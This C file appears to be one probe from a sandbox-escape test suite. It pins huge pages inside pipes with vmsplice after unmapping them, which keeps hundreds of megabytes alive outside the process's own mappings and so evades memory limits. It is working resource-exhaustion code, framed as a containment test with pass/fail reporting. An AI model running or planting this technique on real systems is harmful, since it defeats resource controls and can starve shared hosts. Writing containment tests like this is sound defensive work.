// escape: keep huge pages alive by one small page of each in a pipe, after they were unmapped
// layer: memory, seccomp
// outside: works
#include "payload.h"

static void attempt(void) {
    size_t huge = 2 << 20, total = 0;
    for (int i = 0; i < 14; i++) {
        int ends[2];
        if (pipe(ends) < 0) blocked("pipe");
        for (int j = 0; j < 15; j++) {
            char *memory = mmap(NULL, 2 * huge, PROT_READ | PROT_WRITE,
                                MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
            if (memory == MAP_FAILED) blocked("mmap");
            char *page = (char *)(((uintptr_t)memory + huge - 1) & ~(huge - 1));
            madvise(page, huge, MADV_HUGEPAGE);
            touch(page, huge);
            struct iovec part = {page, 4096};
            if (vmsplice(ends[1], &part, 1, SPLICE_F_NONBLOCK) != 4096) blocked("vmsplice");
            munmap(memory, 2 * huge);
            total += huge;
        }
    }
    pause_ms(400);
    worked("%zu MB in pipes", total >> 20);
}
